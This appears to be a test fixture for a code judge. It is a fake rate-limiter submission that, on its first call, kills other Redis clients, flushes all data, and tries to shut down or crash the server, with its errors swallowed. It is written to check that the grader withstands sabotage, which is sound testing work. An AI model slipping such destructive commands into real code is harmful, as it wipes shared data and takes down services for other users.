"""Attack class 4 (damage the shared service): kill the other clients, then the Redis server.

On the first allow() it sends CLIENT KILL TYPE normal SKIPME yes (drops every other connection,
including the trusted suite's own client), FLUSHALL, then SHUTDOWN NOSAVE, and if that is refused DEBUG SEGFAULT; it ignores
their errors. Then it makes the real call (a Lua sliding-log script), which raises
redis.exceptions.ConnectionError if the server died, and otherwise raises anyway (see below).

Correct verdict: runtime_error. Either its own call fails (server gone), or the judge's server
refuses these commands and the honest part raises: allow() on an unknown key calls int() on
None. The judge must attribute the failure to the candidate (not an internal error), and start
a fresh server for the next run.
"""

import redis as redis_lib

_done = [False]


class RateLimiter:
    def __init__(self, redis, limit: int, window: float) -> None:
        if limit < 1 or window <= 0:
            raise ValueError("limit must be >= 1 and window > 0")
        self.redis = redis
        self.limit = limit
        self.window = window

    def allow(self, key: str) -> bool:
        if not _done[0]:
            _done[0] = True
            for command in (("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes"), ("FLUSHALL",), ("SHUTDOWN", "NOSAVE"), ("DEBUG", "SEGFAULT")):
                try:
                    self.redis.execute_command(*command)
                except redis_lib.exceptions.RedisError:
                    pass
        count = int(self.redis.get(f"count:{key}"))  # wrong: None for a new key -> TypeError
        return count < self.limit
